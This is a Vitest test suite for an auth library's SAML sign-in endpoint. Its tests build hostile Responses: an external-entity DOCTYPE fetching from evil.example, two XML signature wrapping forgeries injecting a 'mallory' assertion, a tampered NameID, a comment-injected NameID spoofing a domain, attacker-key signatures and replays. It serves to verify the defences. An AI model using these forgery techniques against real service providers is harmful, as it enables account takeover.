/**
 * The SAML sign-in through the public API: `POST signin/sso` to the ACS, on core's `Auth` with a
 * `MemoryAdapter`. The IdP is the saml package's test IdP (real xml-crypto signatures with its own
 * keys); every hostile Response reaches the ACS route and must end on the error page with its code,
 * nothing stored.
 */
import { beforeAll, describe, expect, it, vi } from "vitest"
import { Auth, MemoryRateLimitStore, type AuthConfig } from "@authlib/core"
import { decode } from "@authlib/jwt"
import { MemoryAdapter, createMemoryStore, type MemoryStore } from "@authlib/adapter-test"
import { assertionXml, b64, fields, responseXml, sign, type ResponseFields } from "@authlib/e2e-kit/saml/idp"
import { makeParties, type Parties } from "@authlib/e2e-kit/saml/keys"
import { childNamed, first, importXml, parse, serialize } from "@authlib/e2e-kit/saml/dom-edit"
import { Client, ORIGIN } from "../helpers.js"
import { IDP, acmeIdp, postToAcs, refusalCode, samlOrganization, startApp, startSignIn, type SsoApp } from "./harness.js"
import type { SsoConnection } from "@authlib/core"

const SESSION_COOKIE = "authlib.session-token"
const OTHER_IDP = "https://idp.globex.test/saml2/idp/metadata.php"

let parties: Parties
let store: MemoryStore
let app: SsoApp
let acme: { organizationId: string; connection: SsoConnection }
let globex: { organizationId: string; connection: SsoConnection }
const events: Record<string, unknown>[] = []

beforeAll(async () => {
  parties = await makeParties()
  store = createMemoryStore()
  app = await startApp(MemoryAdapter(store), {
    events: {
      memberAdded: (message) => void events.push({ name: "memberAdded", ...message }),
      signIn: ({ user, account, isNewUser }) => void events.push({ name: "signIn", email: user.email, provider: account?.provider, isNewUser }),
    },
  })
  acme = await samlOrganization(app, "acme", acmeIdp(parties.idp.certificatePem), ["acme.test"])
  globex = await samlOrganization(app, "globex", { entityId: OTHER_IDP, ssoUrl: "https://idp.globex.test/sso", certificatePem: parties.attacker.certificatePem }, ["globex.test"])
}, 60_000)

/** Response fields answering `requestId` for `connection`, valid now. */
function answer(connection: SsoConnection, requestId: string, over: Partial<ResponseFields> = {}): ResponseFields {
  const now = Date.now()
  return fields({
    destination: connection.acsUrl!,
    recipient: connection.acsUrl!,
    audience: connection.spEntityId!,
    responseIssuer: connection.idpEntityId!,
    assertionIssuer: connection.idpEntityId!,
    inResponseTo: requestId,
    notBefore: new Date(now - 30_000),
    notOnOrAfter: new Date(now + 300_000),
    confirmationNotOnOrAfter: new Date(now + 300_000),
    ...over,
  })
}

/** A Response with a signed assertion (the usual IdP answer). */
const signedResponse = (f: ResponseFields, key = parties.idp) => responseXml(f, sign(assertionXml(f), "Assertion", key))

/** What must not change on a refusal: users, accounts, memberships (tokens may be taken). */
const stored = () => JSON.stringify([[...store.users], [...store.accounts], [...store.organizationMembers], [...store.sessions]])

/** A fresh browser starting a sign-in at acme; the ACS answer to `build(requestId)`. */
async function attempt(build: (requestId: string) => string, connection = acme.connection): Promise<{ res: Response; client: Client }> {
  const client = new Client(app.config)
  const { requestId } = await startSignIn(client, { email: "alice@acme.test" })
  const res = await postToAcs(client, connection.id, b64(build(requestId)))
  return { res, client }
}

async function expectRefused(build: (requestId: string) => string, code: string, connection = acme.connection): Promise<void> {
  const before = stored()
  const { res } = await attempt(build, connection)
  expect(refusalCode(res), res.headers.get("location") ?? String(res.status)).toBe(code)
  expect(res.headers.get("set-cookie")).toMatch(/authlib\.sso-binding=;/)
  expect(stored()).toBe(before)
}

describe("SAML sign-in: the journey", () => {
  it("starts with a signed AuthnRequest to the connection's IdP and a SameSite=None; Secure binding cookie of 5 minutes", async () => {
    const client = new Client(app.config)
    const res = await client.post("/auth/signin/sso", { email: "Alice@ACME.test" })
    const location = new URL(res.headers.get("location")!)
    expect(location.origin + location.pathname).toBe("https://idp.acme.test/sso")
    expect(location.searchParams.get("SigAlg")).toBe("http://www.w3.org/2001/04/xmldsig-more#rsa-sha256")
    expect(location.searchParams.get("Signature")).toBeTruthy()
    const binding = res.headers.getSetCookie().find((c) => c.startsWith("authlib.sso-binding="))!
    expect(binding).toMatch(/; Secure/i)
    expect(binding).toMatch(/SameSite=None/i)
    expect(binding).toMatch(/Max-Age=300/)
  })

  it("signs alice in: user created with a verified address, joined to acme as member, acme active", async () => {
    const client = new Client(app.config)
    const { requestId } = await startSignIn(client, { email: "alice@acme.test", callbackUrl: `${ORIGIN}/dashboard` })
    const res = await postToAcs(client, acme.connection.id, b64(signedResponse(answer(acme.connection, requestId))))
    expect(res.status).toBe(302)
    expect(res.headers.get("location")).toBe(`${ORIGIN}/dashboard`)
    const user = [...store.users.values()].find((u) => u.email === "alice@acme.test")!
    expect(user.emailVerified).toBeInstanceOf(Date)
    expect(store.organizationMembers.get(store.memberKey(acme.organizationId, user.id))?.role).toBe("member")
    expect(events).toContainEqual({ name: "signIn", email: "alice@acme.test", provider: "sso", isNewUser: true })
    expect(events).toContainEqual({ name: "memberAdded", organizationId: acme.organizationId, userId: user.id, role: "member", via: "sso" })
    const sessionAnswer = await (await client.request("/auth/session")).json()
    expect(sessionAnswer.user.email).toBe("alice@acme.test")
    expect(sessionAnswer.activeOrganization).toMatchObject({ id: acme.organizationId, slug: "acme", role: "member" })
  })

  it("starts by organization slug too", async () => {
    const started = await startSignIn(new Client(app.config), { organization: "acme" })
    expect(started.url.host).toBe("idp.acme.test")
  })

  it("refuses a start for a domain no connection has verified, and an unknown slug (CONNECTION_UNKNOWN)", async () => {
    const forms: Record<string, string>[] = [{ email: "bob@unknown.test" }, { organization: "nope" }, { email: "not-an-address" }]
    for (const form of forms) {
      const res = await new Client(app.config).post("/auth/signin/sso", form)
      expect(refusalCode(res)).toBe("CONNECTION_UNKNOWN")
    }
  })

  it("records the IdP's MFA context as amr mfa", async () => {
    const client = new Client(app.config)
    const { requestId } = await startSignIn(client, { email: "carol@acme.test" })
    const f = answer(acme.connection, requestId, { nameId: "carol@acme.test", attributes: { mail: ["carol@acme.test"] }, authnContextClassRef: "https://refeds.org/profile/mfa" })
    expect((await postToAcs(client, acme.connection.id, b64(signedResponse(f)))).status).toBe(302)
    const token = client.jar.get(SESSION_COOKIE)
    const jwt = token ? await decode({ token, secret: app.config.secret as string, salt: SESSION_COOKIE }) : null
    expect(jwt?.amr).toEqual(expect.arrayContaining(["fed", "mfa"]))
  })
})

describe("SAML sign-in: hostile Responses at the ACS are refused with their code, nothing stored", () => {
  const idpCert = () => parties.idp
  it("an unsigned assertion: SIGNATURE_INVALID", () => expectRefused((rid) => { const f = answer(acme.connection, rid); return responseXml(f, assertionXml(f)) }, "SIGNATURE_INVALID"))
  it("signed by another key: SIGNATURE_INVALID", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid), parties.attacker), "SIGNATURE_INVALID"))
  it("altered after signing: SIGNATURE_INVALID", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid)).replace("alice@acme.test</saml:NameID>", "admin@acme.test</saml:NameID>"), "SIGNATURE_INVALID"))
  it("SHA-1: ALGORITHM_REFUSED", () => expectRefused((rid) => { const f = answer(acme.connection, rid); return responseXml(f, sign(assertionXml(f), "Assertion", { ...idpCert(), sha1: true })) }, "ALGORITHM_REFUSED"))
  it("a wrong audience: AUDIENCE_MISMATCH", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { audience: "https://other-sp.example/metadata" })), "AUDIENCE_MISMATCH"))
  it("a wrong destination: DESTINATION_MISMATCH", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { destination: `${ORIGIN}/auth/sso/acs/${globex.connection.id}` })), "DESTINATION_MISMATCH"))
  it("a wrong recipient: RECIPIENT_MISMATCH", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { recipient: "https://evil.example/acs" })), "RECIPIENT_MISMATCH"))
  it("a wrong issuer: ISSUER_MISMATCH", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { responseIssuer: null, assertionIssuer: OTHER_IDP })), "ISSUER_MISMATCH"))
  it("expired: EXPIRED", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { notBefore: new Date(Date.now() - 900_000), notOnOrAfter: new Date(Date.now() - 600_000) })), "EXPIRED"))
  it("not yet valid: NOT_YET_VALID", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { notBefore: new Date(Date.now() + 600_000) })), "NOT_YET_VALID"))
  it("no InResponseTo: IN_RESPONSE_TO_MISSING", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid, { inResponseTo: null })), "IN_RESPONSE_TO_MISSING"))
  it("answering another request (another browser's): IN_RESPONSE_TO_UNKNOWN", async () => {
    const other = await startSignIn(new Client(app.config), { email: "alice@acme.test" })
    await expectRefused(() => signedResponse(answer(acme.connection, other.requestId)), "IN_RESPONSE_TO_UNKNOWN")
  })
  it("unsolicited (no binding cookie in this browser): IN_RESPONSE_TO_UNKNOWN", async () => {
    const other = await startSignIn(new Client(app.config), { email: "alice@acme.test" })
    const before = stored()
    const res = await postToAcs(new Client(app.config), acme.connection.id, b64(signedResponse(answer(acme.connection, other.requestId))))
    expect(refusalCode(res)).toBe("IN_RESPONSE_TO_UNKNOWN")
    expect(stored()).toBe(before)
  })
  it("a DOCTYPE with a parameter entity: DTD_REFUSED", () =>
    expectRefused((rid) => `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>` + signedResponse(answer(acme.connection, rid)), "DTD_REFUSED"))
  it("above sso.maxResponseBytes: RESPONSE_TOO_LARGE", () =>
    expectRefused((rid) => { const f = answer(acme.connection, rid); return responseXml(f, sign(assertionXml(f), "Assertion", idpCert()), `<samlp:Extensions>${"<x/>".repeat(70_000)}</samlp:Extensions>`) }, "RESPONSE_TOO_LARGE"))
  it("XSW: an evil assertion beside the signed one: ASSERTION_WRAPPED", () =>
    expectRefused((rid) => {
      const f = answer(acme.connection, rid)
      const doc = parse(signedResponse(f))
      const root = doc.documentElement as Element
      const evil = importXml(doc, assertionXml(answer(acme.connection, rid, { nameId: "mallory@acme.test", attributes: { mail: ["mallory@acme.test"] } })))
      root.insertBefore(evil, childNamed(root, "Assertion"))
      return serialize(doc)
    }, "ASSERTION_WRAPPED"))
  it("XSW: the signed assertion hidden in the evil one's Signature Object: ASSERTION_WRAPPED", () =>
    expectRefused((rid) => {
      const f = answer(acme.connection, rid)
      const signed = parse(sign(assertionXml(f), "Assertion", idpCert()))
      const doc = parse(responseXml(f, assertionXml(answer(acme.connection, rid, { assertionId: f.assertionId, nameId: "mallory@acme.test", attributes: { mail: ["mallory@acme.test"] } }))))
      const evil = childNamed(doc.documentElement as Element, "Assertion")
      const signature = doc.importNode(first(signed, "Signature"), true) as Element
      const object = doc.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object")
      object.appendChild(doc.importNode(signed.documentElement as Element, true))
      signature.appendChild(object)
      evil.insertBefore(signature, evil.firstChild!.nextSibling)
      return serialize(doc)
    }, "ASSERTION_WRAPPED"))
  it("an IdP asserting an address of another organization's domain: DOMAIN_NOT_VERIFIED", () =>
    expectRefused((rid) => signedResponse(answer(acme.connection, rid, { nameId: "eve@globex.test", attributes: { mail: ["eve@globex.test"] } })), "DOMAIN_NOT_VERIFIED"))
  it("an address at an unverified domain: DOMAIN_NOT_VERIFIED", () =>
    expectRefused((rid) => signedResponse(answer(acme.connection, rid, { nameId: "eve@gmail.test", attributes: { mail: ["eve@gmail.test"] } })), "DOMAIN_NOT_VERIFIED"))
  it("a comment in the NameID does not change the address read (user@globex.test<!---->.acme.test is not at acme.test's owner)", async () => {
    // The signed value is eve@globex.test.acme.test: a subdomain, not acme.test, so it is refused as such.
    await expectRefused((rid) => {
      const f = answer(acme.connection, rid, { nameId: "eve@globex.test.acme.test", attributes: {} })
      return responseXml(f, sign(assertionXml(f, { nameIdXml: "eve@globex.test<!---->.acme.test" }), "Assertion", idpCert()))
    }, "DOMAIN_NOT_VERIFIED")
  })
  it("a Response posted to another connection's ACS: the binding names acme, so IN_RESPONSE_TO_UNKNOWN", () =>
    expectRefused((rid) => signedResponse(answer(globex.connection, rid), parties.attacker), "IN_RESPONSE_TO_UNKNOWN", globex.connection))
  it("an unknown connection: CONNECTION_UNKNOWN", () => expectRefused((rid) => signedResponse(answer(acme.connection, rid)), "CONNECTION_UNKNOWN", { ...acme.connection, id: "sso_unknown" }))
})

describe("SAML sign-in: the binding lasts 5 minutes by the library's clock", () => {
  it("a Response after 5 minutes finds no binding: IN_RESPONSE_TO_UNKNOWN, nothing stored", async () => {
    const client = new Client(app.config)
    const { requestId } = await startSignIn(client, { email: "erin@acme.test" })
    const before = stored()
    vi.useFakeTimers({ now: Date.now() + 301_000, toFake: ["Date"] })
    try {
      // The browser still sends the cookie (its own clock may lag): the sealed expiry decides.
      const f = answer(acme.connection, requestId, { nameId: "erin@acme.test", attributes: { mail: ["erin@acme.test"] } })
      const res = await postToAcs(client, acme.connection.id, b64(signedResponse(f)))
      expect(refusalCode(res)).toBe("IN_RESPONSE_TO_UNKNOWN")
    } finally {
      vi.useRealTimers()
    }
    expect(stored()).toBe(before)
  })

  it("within 5 minutes it still signs in", async () => {
    const client = new Client(app.config)
    const { requestId } = await startSignIn(client, { email: "frank@acme.test" })
    vi.useFakeTimers({ now: Date.now() + 290_000, toFake: ["Date"] })
    try {
      const f = answer(acme.connection, requestId, { nameId: "frank@acme.test", attributes: { mail: ["frank@acme.test"] } })
      expect(refusalCode(await postToAcs(client, acme.connection.id, b64(signedResponse(f))))).toBeNull()
    } finally {
      vi.useRealTimers()
    }
  })
})

describe("SAML sign-in: single use", () => {
  it("the same Response posted twice (with the same cookie) signs in once: ASSERTION_REPLAYED", async () => {
    const client = new Client(app.config)
    const { requestId } = await startSignIn(client, { email: "dave@acme.test" })
    const response = b64(signedResponse(answer(acme.connection, requestId, { nameId: "dave@acme.test", attributes: { mail: ["dave@acme.test"] } })))
    const headers = new Headers()
    client.jar.apply(headers, new URL(acme.connection.acsUrl!))
    const cookie = headers.get("cookie")!
    const post = () =>
      import("@authlib/core").then(({ Auth }) =>
        Auth(new Request(acme.connection.acsUrl!, { method: "POST", headers: { cookie, origin: "https://idp.acme.test", "content-type": "application/x-www-form-urlencoded" }, body: new URLSearchParams({ SAMLResponse: response }).toString() }), app.config as AuthConfig),
      )
    const first = await post()
    expect(first.status).toBe(302)
    expect(refusalCode(first)).toBeNull()
    const second = await post()
    expect(refusalCode(second)).toBe("ASSERTION_REPLAYED")
  })
})

describe("SAML sign-in: per-client limit (sso.perClient)", () => {
  it("ACS posts from one client past the limit are refused before any verification; another client goes on", async () => {
    const config = { ...app.config, rateLimit: { store: new MemoryRateLimitStore(), sso: { perClient: { limit: 2, window: 60 } } } } as AuthConfig
    const post = (address: string) =>
      Auth(new Request(acme.connection.acsUrl!, { method: "POST", headers: { origin: "https://idp.acme.test", "content-type": "application/x-www-form-urlencoded" }, body: "SAMLResponse=bm90LXhtbA%3D%3D" }), config, { clientAddress: address })
    for (let i = 0; i < 2; i++) expect(refusalCode(await post("203.0.113.7"))).toBe("MALFORMED")
    const refused = await post("203.0.113.7")
    expect(refusalCode(refused)).toBeNull()
    expect(refused.headers.get("location") ?? String(refused.status)).toMatch(/RateLimited|429/)
    expect(refusalCode(await post("203.0.113.8"))).toBe("MALFORMED")
  })
})
